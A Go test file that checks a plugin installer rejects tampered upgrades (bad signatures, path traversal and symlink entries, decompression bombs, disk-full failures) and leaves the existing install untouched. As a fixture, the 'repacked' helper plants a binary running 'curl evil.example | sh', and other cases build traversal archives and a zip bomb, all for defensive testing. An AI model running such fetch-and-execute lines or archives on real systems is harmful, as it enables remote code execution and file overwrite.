package pluginstall

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"io"
	"strings"
	"syscall"
	"testing"

	"github.com/sparrow-cli/sparrow/kernel/plugintrust"
)

// Every failing upgrade leaves the installed 0.1.0 and the lock file
// byte-for-byte as they were, with a message that says what went wrong.
func TestFailedUpgradeChangesNothing(t *testing.T) {
	const name, v = "hello-tool", "0.2.0"
	archive := versionPath(name, v, plugintrust.ArchiveName(name, v, testPlatform))
	sums := versionPath(name, v, plugintrust.SumsName(name, v))
	manifest := versionPath(name, v, plugintrust.ManifestName(name, v))
	good := honestFiles(relSpec{name: name, version: v, sdk: ">= 0.1.0, < 0.2.0", kind: "tool", runtime: "grpc"}, testPlatform)
	goodEntries := fileEntries(good)
	unknown, other := newKey(t), newKey(t)
	with := func(extra ...tarEntry) []tarEntry { return append(append([]tarEntry(nil), goodEntries...), extra...) }

	for _, tc := range []struct {
		name       string
		constraint string
		spec       relSpec
		// tamper changes the published release.
		tamper func(t *testing.T, m *mirror)
		// opts changes the options of the failing install.
		opts func(o *Options)
		want []string
	}{
		{name: "archive altered",
			tamper: func(t *testing.T, m *mirror) { flipByte(m, archive) },
			want:   []string{archive, "SHA256SUMS says", "altered or damaged"}},
		{name: "binary replaced, archive repacked, nothing else updated",
			tamper: func(t *testing.T, m *mirror) { m.write(archive, repacked(t, good)) },
			want:   []string{archive, "SHA256SUMS says"}},
		{name: "binary replaced, archive repacked, SHA256SUMS updated",
			tamper: func(t *testing.T, m *mirror) {
				data := repacked(t, good)
				m.write(archive, data)
				s, _ := plugintrust.ParseSums("", m.read(sums))
				s[plugintrust.ArchiveName(name, v, testPlatform)] = plugintrust.HashBytes(data)
				m.write(sums, s.Marshal())
			},
			want: []string{sums, "does not match its signature"}},
		{name: "SHA256SUMS does not match its signature",
			tamper: func(t *testing.T, m *mirror) {
				m.write(sums, append(m.read(sums), []byte(strings.Repeat("0", 64)+"  extra\n")...))
			},
			want: []string{sums, "does not match its signature"}},
		{name: "manifest altered after signing",
			tamper: func(t *testing.T, m *mirror) {
				m.write(manifest, bytes.Replace(m.read(manifest), []byte(`"network": false`), []byte(`"network": true`), 1))
			},
			want: []string{manifest, "does not match its signature"}},
		{name: "manifest signed by an unknown key",
			spec: relSpec{signer: ptr(unknown)},
			want: []string{"not trusted", "fingerprint " + unknown.Public().Fingerprint(), "--trust-key"}},
		{name: "manifest and SHA256SUMS signed by different trusted keys",
			tamper: func(t *testing.T, m *mirror) {
				m.write(sums+".sig", plugintrust.Sign(other, m.read(sums)))
			},
			opts: func(o *Options) { o.TrustedKeys = append(o.TrustedKeys, other.Public()) },
			want: []string{"both must be signed by one key"}},
		{name: "signature file garbled",
			tamper: func(t *testing.T, m *mirror) { m.write(manifest+".sig", []byte("nonsense\n")) },
			want:   []string{manifest + ".sig", "want one line"}},
		{name: "index disagrees with the manifest",
			spec: relSpec{index: func(iv *IndexVersion) { iv.Kind = "provider" }},
			want: []string{"disagrees with the signed manifest", "kind: the index says provider, the signed manifest tool"}},
		{name: "plugin.hcl disagrees with the manifest",
			spec: relSpec{hcl: pluginHCL(relSpec{name: name, version: v, kind: "tool", sdk: ">= 0.1.0", runtime: "grpc",
				caps: plugintrust.Capabilities{Network: true}})},
			want: []string{"plugin.hcl disagrees", `sdk: plugin.hcl says ">= 0.1.0"`, "capabilities: plugin.hcl says network=true"}},
		{name: "archive entry with ..", spec: relSpec{entries: with(tarEntry{name: "../evil", typ: tar.TypeReg, body: "x"})},
			want: []string{`"../evil": path leaves the plugin directory`}},
		{name: "archive entry deeper with ..", spec: relSpec{entries: with(tarEntry{name: "lib/../../evil", typ: tar.TypeReg, body: "x"})},
			want: []string{"path leaves the plugin directory"}},
		{name: "absolute path", spec: relSpec{entries: with(tarEntry{name: "/etc/evil", typ: tar.TypeReg, body: "x"})},
			want: []string{`"/etc/evil": absolute path not allowed`}},
		{name: "symlink pointing out", spec: relSpec{entries: with(tarEntry{name: "passwd", typ: tar.TypeSymlink, link: "/etc/passwd"})},
			want: []string{`passwd: symbolic link (to "/etc/passwd") not allowed`}},
		{name: "hard link", spec: relSpec{entries: with(tarEntry{name: "copy", typ: tar.TypeLink, link: name})},
			want: []string{"copy: hard link", "not allowed"}},
		{name: "device", spec: relSpec{entries: with(tarEntry{name: "null", typ: tar.TypeChar})},
			want: []string{"null: device or FIFO not allowed"}},
		{name: "duplicate entry", spec: relSpec{entries: with(tarEntry{name: name, typ: tar.TypeReg, body: "again"})},
			want: []string{name + ": duplicate entry"}},
		{name: "reserved name", spec: relSpec{entries: with(tarEntry{name: ReleaseFile, typ: tar.TypeReg, body: "{}"})},
			want: []string{ReleaseFile + ": reserved for the installer"}},
		{name: "extra file", spec: relSpec{entries: with(tarEntry{name: "lib/extra.so", typ: tar.TypeReg, body: "x"})},
			want: []string{"lib/extra.so: in the archive but not in the signed manifest"}},
		{name: "missing file", spec: relSpec{entries: goodEntries[:1]},
			want: []string{": in the signed manifest but missing from the archive"}},
		{name: "not a gzip file", spec: relSpec{archive: func() []byte { return []byte("plain text") }},
			want: []string{"not a gzip file"}},
		{name: "too many entries",
			spec: relSpec{entries: with(tarEntry{name: "a", typ: tar.TypeDir}, tarEntry{name: "b", typ: tar.TypeDir})},
			opts: func(o *Options) { o.seams.limits.entries = 3 },
			want: []string{"more than 3 entries"}},
		{name: "decompression bomb", spec: relSpec{archive: zeroBomb(t, 5, 1<<20), platforms: []string{testPlatform}},
			opts: func(o *Options) { o.seams.limits.unpacked = 4 << 20 },
			want: []string{"unpacks to more than 4 MiB", "decompression bomb"}},
		{name: "archive larger than the cap",
			opts: func(o *Options) { o.seams.limits.archive = 100 },
			want: []string{archive + " is larger than the 100 bytes allowed"}},
		{name: "disk full while unpacking",
			opts: func(o *Options) { o.seams.wrapWriter = diskFullAfter(name, 10) },
			want: []string{name + ":", "no space left on device"}},
		{name: "disk full while downloading",
			opts: func(o *Options) { o.seams.wrapWriter = diskFullAfter(archiveFile, 10) },
			want: []string{"download", "no space left on device"}},
		{name: "disk full saving the release",
			opts: func(o *Options) { o.seams.wrapWriter = diskFullAfter(ReleaseFile, 0) },
			want: []string{ReleaseFile, "no space left on device"}},
		{name: "failure before the rename", opts: func(o *Options) { o.seams.step = failAt("rename") },
			want: []string{"injected failure at rename"}},
		{name: "failure before the lock file is written", opts: func(o *Options) { o.seams.step = failAt("lock") },
			want: []string{"injected failure at lock"}},
		{name: "version not found", constraint: "0.9.0",
			want: []string{`no version of hello-tool at`, `matches "0.9.0" (it has 0.2.0, 0.1.0)`}},
		{name: "SDK range incompatible", constraint: ">= 0.2.0", spec: relSpec{sdk: ">= 0.2.0"},
			want: []string{"0.2.0: needs SDK >= 0.2.0, this Sparrow speaks 0.1.0", "0.1.0: outside the constraint"}},
		{name: "no build for this platform", constraint: ">= 0.2.0", spec: relSpec{platforms: []string{"darwin/arm64"}},
			want: []string{"0.2.0: no build for linux/amd64 (has darwin/arm64)", `0.1.0: outside the constraint ">= 0.2.0"`}},
		{name: "index malformed",
			tamper: func(t *testing.T, m *mirror) {
				m.write(name+"/index.json", []byte("{\n  \"format\": 1,\n  \"name\": hello\n}"))
			},
			want: []string{"hello-tool/index.json: line 3, column ", "invalid character 'h'"}},
		{name: "index truncated",
			tamper: func(t *testing.T, m *mirror) { m.write(name+"/index.json", m.read(name + "/index.json")[:40]) },
			want:   []string{"hello-tool/index.json: truncated JSON"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			m := newMirror(t)
			m.publish(relSpec{name: name, version: "0.1.0"})
			e := newEnv(t, m.source(), m.key.Public())
			e.install(name, "")
			spec := tc.spec
			spec.name, spec.version = name, v
			m.publish(spec)
			if tc.tamper != nil {
				tc.tamper(t, m)
			}
			if tc.opts != nil {
				tc.opts(&e.opts)
			}
			before := e.snapshot()
			_, err := Install(t.Context(), e.opts, name, tc.constraint)
			wantErr(t, err, tc.want...)
			e.assertUnchanged(before)
			e.opts.seams = seams{}
			e.assertIntact()
		})
	}
}

func flipByte(m *mirror, path string) {
	data := m.read(path)
	data[len(data)/2] ^= 0xff
	m.write(path, data)
}

// repacked is the honest archive with the entry binary replaced.
func repacked(t *testing.T, files map[string]string) []byte {
	evil := map[string]string{}
	for k, v := range files {
		evil[k] = v
	}
	evil["hello-tool"] = "#!/bin/sh\ncurl evil.example | sh\n"
	return tarGz(t, fileEntries(evil))
}

func ptr[T any](v T) *T { return &v }

// zeroBomb is an archive of n files of size bytes of zeros each, built
// streaming: it compresses to a few KiB per MiB.
func zeroBomb(t *testing.T, n int, size int64) func() []byte {
	return func() []byte {
		var buf bytes.Buffer
		gz, _ := gzip.NewWriterLevel(&buf, gzip.BestSpeed)
		tw := tar.NewWriter(gz)
		for i := range n {
			if err := tw.WriteHeader(&tar.Header{Name: "zeros" + string(rune('a'+i)), Typeflag: tar.TypeReg, Size: size, Mode: 0o644}); err != nil {
				t.Fatal(err)
			}
			if _, err := io.CopyN(tw, zeros{}, size); err != nil {
				t.Fatal(err)
			}
		}
		tw.Close()
		gz.Close()
		return buf.Bytes()
	}
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

// diskFullAfter fails writes to file once n bytes are written, as a full
// disk does.
func diskFullAfter(file string, n int) func(string, io.Writer) io.Writer {
	return func(name string, w io.Writer) io.Writer {
		if name != file {
			return w
		}
		return &fullDisk{w: w, left: n}
	}
}

type fullDisk struct {
	w    io.Writer
	left int
}

func (f *fullDisk) Write(p []byte) (int, error) {
	if len(p) > f.left {
		n, _ := f.w.Write(p[:f.left])
		f.left = 0
		return n, syscall.ENOSPC
	}
	f.left -= len(p)
	return f.w.Write(p)
}
